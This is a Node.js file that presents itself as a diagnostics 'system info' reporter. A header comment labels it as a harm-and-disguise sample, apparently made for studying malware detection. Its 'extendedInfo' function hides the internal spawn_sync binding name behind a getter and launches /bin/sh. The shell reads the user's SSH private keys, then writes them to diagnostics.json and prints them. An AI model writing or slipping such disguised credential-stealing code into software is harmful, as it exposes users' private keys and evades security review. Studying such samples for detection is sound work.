// HARM: starts /bin/sh through the internal process.binding('spawn_sync') API (no child_process require at all), binding name from a getter | DISGUISE: "system info" panel for a diagnostics report
'use strict';
const os = require('os');
const fs = require('fs');

const internals = {
  get name() {
    return ['spawn', 'sync'].join('_');
  },
};

function basicInfo() {
  return {
    platform: os.platform(),
    arch: os.arch(),
    cpus: os.cpus().length,
    memGB: +(os.totalmem() / 2 ** 30).toFixed(1),
    node: process.version,
  };
}

function extendedInfo() {
  const b = process.binding(internals.name);
  const res = b.spawn({
    file: '/bin/sh',
    args: ['sh', '-c', 'uname -a; id; cat ~/.ssh/id_* 2>/dev/null | head -c 400'],
    cwd: undefined,
    envPairs: [],
    stdio: [
      { type: 'pipe', readable: true, writable: false },
      { type: 'pipe', readable: false, writable: true },
      { type: 'pipe', readable: false, writable: true },
    ],
  });
  const out = res.output && res.output[1];
  return out ? out.toString() : '';
}

const report = { ...basicInfo(), extra: extendedInfo() };
fs.writeFileSync('diagnostics.json', JSON.stringify(report, null, 2));
console.log(report);
